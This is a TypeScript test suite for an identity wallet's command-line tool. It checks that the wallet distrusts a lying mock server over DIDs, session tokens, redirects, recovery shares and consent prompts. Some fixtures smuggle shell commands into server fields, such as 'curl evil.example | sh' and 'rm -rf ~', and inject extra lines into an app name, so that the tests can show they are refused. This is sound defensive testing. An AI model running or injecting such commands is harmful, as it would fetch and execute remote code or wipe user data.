/** A wallet between servers that lie: what is signed, and what is believed. */
import { randomBytes } from 'node:crypto'
import { afterAll, beforeEach, describe, expect, test } from 'bun:test'
import type { Handle } from '../../../src/protocol/identifiers.ts'
import { encodeObject } from '../../../src/protocol/jws.ts'
import { formatDidKey, signingKey } from '../../../src/protocol/keys.ts'
import { genesisDid, genesisOperation, signOperation } from '../../../src/protocol/plc.ts'
import { freshContents } from '../../../src/wallet/wallet.ts'
import { newShares } from '../../../src/wallet/recovery-seed.ts'
import { deviceKey } from '../../support/clients/wallet.ts'
import { startFalseServer } from '../../support/servers/false-server.ts'
import { request } from '../../support/clients/http.ts'
import { startPlcServer } from '../../support/servers/plc-server.ts'
import { WalletUser } from '../../support/clients/wallet-user.ts'

const DID = 'did:plc:aaaaaaaaaaaaaaaaaaaaaaaa'
const DESCRIBE = 'GET /xrpc/com.atproto.server.describeServer'
const SOVEREIGN = 'POST /v1/sessions/sovereign'
const server = startFalseServer()
const plc = await startPlcServer()
const described = server.answers[DESCRIBE] as { did: string }
const token = () => randomBytes(32).toString('base64url')
const uuid = '6d2a2d0e-8a0f-4c0c-9f3b-0d9a6c9d2a11'

let user: WalletUser
beforeEach(() => {
  user = new WalletUser()
  server.answers = { [DESCRIBE]: described }
  server.requests.length = 0
  return () => user[Symbol.dispose]()
})
afterAll(() => Promise.all([server[Symbol.asyncDispose](), plc[Symbol.asyncDispose]()]))

const contents = (changes = {}) => ({
  ...freshContents(server.url, plc.url),
  did: DID,
  handle: 'alice.test',
  ...changes,
})
/** A wallet whose identity is in the directory, with a session. */
async function knownWallet() {
  const wallet = contents({ walletSession: token() })
  const key = signingKey('p256', Buffer.from(wallet.deviceKey, 'hex'))
  const rotationKeys = [formatDidKey(key.publicKey)]
  const genesis = signOperation(
    genesisOperation({
      signingKey: deviceKey().did,
      handle: 'alice.test' as Handle,
      rotationKeys,
      pdsEndpoint: server.url,
    }),
    key,
  )
  const did = genesisDid(genesis)
  await request(`${plc.url}/${did}`, { json: genesis })
  return { ...wallet, did }
}
const posts = () => server.requests.filter((name) => !name.startsWith('GET'))

describe('nothing is signed', () => {
  test.each([
    ['for a server that calls itself by the name of another', 'did:web:bank.example'],
    ['for a server that calls itself by an identity of the directory that does not name it', DID],
    ['for a server whose name is no DID', 'bank.example'],
  ])('%s', async (_, did) => {
    server.answers[DESCRIBE] = { ...described, did }
    await user.keep(contents())
    expect((await user.run(['sign-in'])).code).toBe(1)
    expect(posts()).toEqual([])
  })

  test.each([
    ['without the capabilities', { custos: undefined }],
    ['that names capabilities in another form', { custos: { capabilities: 'sovereignSessions' } }],
    ['that has other capabilities', { extension: { capabilities: ['waitlist'] }, custos: undefined }],
  ])('for a server %s', async (_, change) => {
    server.answers[DESCRIBE] = { ...described, ...change }
    await user.keep(contents())
    expect(await user.run(['sign-in'])).toMatchObject({
      code: 1,
      err: expect.stringContaining('"sovereignSessions" is not among'),
    })
    await user.keep(contents({ did: null }))
    const words = [
      'create',
      '--server',
      server.url,
      '--handle',
      'alice.test',
      '--email',
      'a@example.com',
      '--code',
      'ABC123',
    ]
    expect(await user.run(words, { device: 'new' })).toMatchObject({
      code: 1,
      err: expect.stringContaining('"createCeremony" is not among'),
    })
    expect(posts()).toEqual([])
  })

  test.each(['http://pds.example.com', 'http://10.0.0.1', 'ftp://localhost', 'not an address'])(
    'for %s',
    async (address) => {
      expect(
        await user.run(['create', '--server', address, '--handle', 'a.test', '--email', 'a@b.c', '--code', 'A']),
      ).toMatchObject({
        code: 1,
      })
      expect(server.requests).toEqual([])
    },
  )
})

test('the extension is found under either name', async () => {
  const { custos, ...rest } = described as { did: string; custos?: object }
  server.answers[DESCRIBE] = { ...rest, extension: custos }
  await user.keep(contents())
  await user.run(['sign-in'])
  expect(posts()).toEqual([SOVEREIGN])
})

const jwt = (claims: object) => `${encodeObject({ alg: 'HS256' })}.${encodeObject(claims)}.c2ln`

describe('a session is thrown away', () => {
  const good = { sub: DID, aud: described.did, exp: 4_000_000_000 }
  test.each([
    ['of another account', { ...good, sub: 'did:plc:bbbbbbbbbbbbbbbbbbbbbbbb' }],
    ['for another server', { ...good, aud: 'did:web:bank.example' }],
    ['without claims', {}],
  ])('%s', async (_, claims) => {
    server.answers[SOVEREIGN] = { accessJwt: jwt(claims), refreshJwt: jwt(good), handle: 'alice.test' }
    await user.keep(contents())
    expect((await user.run(['sign-in'])).code).toBe(1)
    server.answers[SOVEREIGN] = { accessJwt: jwt(good), refreshJwt: jwt(claims), handle: 'alice.test' }
    expect((await user.run(['sign-in'])).code).toBe(1)
    expect((await user.contents()).session).toBeNull()
    server.answers[SOVEREIGN] = { accessJwt: jwt(good), refreshJwt: jwt(good), handle: 'alice.test' }
    await user.do(['sign-in'])
    expect((await user.contents()).session).not.toBeNull()
  })
})

test('a redirect is not followed, and an answer without end is cut off', async () => {
  await user.keep(contents())
  server.answers[SOVEREIGN] = () => Response.redirect(`${server.url}/elsewhere`, 307)
  expect((await user.run(['sign-in'])).code).toBe(1)
  expect(posts()).toEqual([SOVEREIGN])
  server.answers[SOVEREIGN] = () => new Response(' '.repeat(6 * 1024 * 1024))
  expect(await user.run(['sign-in'])).toMatchObject({
    code: 1,
    err: expect.stringContaining('longer than 5242880 bytes'),
  })
})

describe('an identity is not made', () => {
  const words = [
    'create',
    '--server',
    server.url,
    '--directory',
    plc.url,
    '--handle',
    'alice.test',
    '--email',
    'a@b.cc',
    '--code',
    'ABC123',
  ]
  const account = {
    accountId: uuid,
    deviceId: uuid,
    deviceToken: token(),
    sessionToken: token(),
    nextStep: 'did_creation',
  }
  const good = {
    'POST /v1/accounts/mobile': account,
    [`GET /v1/devices/${uuid}/pds`]: { pdsUrl: server.url, websocketUrl: 'ws://x' },
    'GET /v1/repo-signing-key': { keyId: deviceKey().did, publicKey: 'z', algorithm: 'p256' },
  }

  test.each([
    [
      'at another address',
      { [`GET /v1/devices/${uuid}/pds`]: { pdsUrl: 'https://bank.example' } },
      'names itself https://bank.example',
    ],
    [
      'with a next step that the wallet does not know',
      { 'POST /v1/accounts/mobile': { ...account, nextStep: 'send_keys' } },
      'does not support',
    ],
    [
      'with a repository key that is none',
      { 'GET /v1/repo-signing-key': { keyId: 'did:key:zNothing' } },
      'returned no key',
    ],
  ])('%s', async (_, change, said) => {
    Object.assign(server.answers, good, change)
    expect(await user.run(words)).toMatchObject({ code: 1, err: expect.stringContaining(said) })
    expect(posts()).not.toContain('POST /v1/dids')
  })

  test('under another DID than the one that was signed', async () => {
    Object.assign(server.answers, good, {
      'POST /v1/dids': { did: DID, did_document: {}, status: 'active', session_token: token() },
    })
    expect(await user.run(words)).toMatchObject({
      code: 1,
      err: expect.stringContaining(`created the account with ${DID}`),
    })
    const { did, walletSession, unfinished } = await user.contents()
    expect(did).not.toBe(DID)
    expect(walletSession).toBeNull()
    expect(unfinished).toMatchObject({ what: 'creation' })
  })

  test('twice: after a refusal the same is sent again', async () => {
    Object.assign(server.answers, good)
    expect((await user.run(words)).code).toBe(1)
    const first = await user.contents()
    expect((await user.run(['create'])).code).toBe(1)
    expect(await user.contents()).toEqual(first)
    expect(posts().filter((name) => name === 'POST /v1/dids')).toHaveLength(2)
  })
})

describe('what a server says does not become', () => {
  const good = { sub: DID, aud: described.did, exp: 4_000_000_000 }

  test('a handle, unless it is one', async () => {
    server.answers[SOVEREIGN] = { accessJwt: jwt(good), refreshJwt: jwt(good), handle: 'x; curl evil.example | sh' }
    await user.keep(contents())
    await user.do(['sign-in'])
    expect((await user.contents()).handle).toBe('alice.test')
  })

  test.each([
    ['a part of the command that is copied', { transferCode: 'A;rm -rf ~' }],
    ['another command below it', { expiresAt: '12:00\n\n  curl evil.example | sh' }],
  ])('%s', async (_, change) => {
    const answer = { transferId: uuid, transferCode: 'ABC123', expiresAt: '2030-01-01T00:00:00Z', status: 'pending' }
    const known = await knownWallet()
    for (const [said, code] of [
      [{ ...answer, ...change }, 1],
      [answer, 0],
    ] as const) {
      server.answers['POST /v1/transfer/initiate'] = said
      await user.keep(known)
      expect((await user.run(['transfer'])).code).toBe(code)
    }
  })

  test('more lines of an error than one', async () => {
    const message = `no\n\nThe wallet is fine.${'.'.repeat(5000)}`
    server.answers[SOVEREIGN] = () => Response.json({ error: { code: 'X', message } }, { status: 400 })
    await user.keep(contents())
    const { err } = await user.run(['sign-in'])
    expect(err.split('\n')).toHaveLength(1)
    expect(err.length).toBeLessThan(1000)
  })

  test('a scope, if it is more than one', async () => {
    const requestId = `poauth_${token()}`
    const asking = { requestId, clientId: 'https://app.example', redirectUri: 'https://app.example/cb' }
    server.answers['GET /oauth/authorize/consent-request'] = {
      ...asking,
      requestedScope: ['atproto', 'x account:email?action=manage'],
    }
    await user.keep(contents())
    expect((await user.run(['approve', requestId, '--yes'])).code).toBe(1)
    expect(posts()).toEqual([])
  })
})

describe('a released share is refused', () => {
  const { keychain, paper, escrow } = newShares()
  const recovering = () =>
    contents({ unfinished: { what: 'recovery', did: DID, availableAt: null, escrowShare: null } })
  test.each([
    ['that is not the share of the server', { status: 'released', share: keychain }],
    ['that is damaged', { status: 'released', share: escrow.slice(1) }],
    ['that is missing', { status: 'released' }],
    ['before its time', { status: 'soon', share: escrow }],
  ])('%s', async (_, answer) => {
    server.answers['POST /v1/recovery/release'] = answer
    await user.keep(recovering())
    expect((await user.run(['recover', '--code', 'x', '--share', paper])).code).toBe(1)
    expect(await user.contents()).toEqual({ ...recovering(), deviceKey: (await user.contents()).deviceKey })
  })
})

test('a server that knows of no required code is polled without it', async () => {
  const bodies: unknown[] = []
  server.answers['POST /v1/recovery/release'] = async (request: Request) => {
    const body = (await request.json()) as { otp?: string }
    bodies.push(body)
    const isKnown = bodies.length === 1 || body.otp === undefined
    return isKnown
      ? Response.json({ status: 'pending', availableAt: '2026-01-01T00:00:00Z' })
      : Response.json({ error: { code: 'UNAUTHORIZED', message: 'used' } }, { status: 401 })
  }
  await user.keep(contents({ unfinished: { what: 'recovery', did: DID, availableAt: null, escrowShare: null } }))
  await user.do(['recover', '--code', 'x'])
  await user.do(['recover'])
  const asked = { identifier: DID, otp: 'x', code: 'required' }
  expect(bodies).toEqual([asked, asked, { identifier: DID }])
})

test('an app cannot write lines of its own into the question', async () => {
  server.answers['GET /oauth/authorize/consent-request'] = {
    requestId: 'poauth_12345678',
    clientId: 'https://app.example',
    clientName: 'An app\nrequested for  you\n\nThe app requests permission to:',
    redirectUri: 'https://app.example/callback',
    requestedScope: ['atproto', 'transition:generic'],
  }
  await user.keep(contents())
  const { out, asked } = await user.run(['approve', 'ABCD-1234'], { answers: { 'Type yes': 'no' } })
  expect(out.match(/^requested for|^The app requests|^ {2}- Know/gm)).toEqual(['The app requests', '  - Know'])
  expect(asked[0]).not.toContain('\n')
  expect(posts()).toEqual([])
})

test('a wallet is for one server', async () => {
  await user.keep(contents({ did: null }))
  for (const words of [['key'], ['create'], ['recover', 'alice.test'], ['transfer', '--join', 'alice.test']])
    expect(await user.run([...words, '--server', 'https://other.example'])).toMatchObject({
      code: 1,
      err: expect.stringContaining(`is for ${server.url}`),
    })
  expect(server.requests).toEqual([])
})
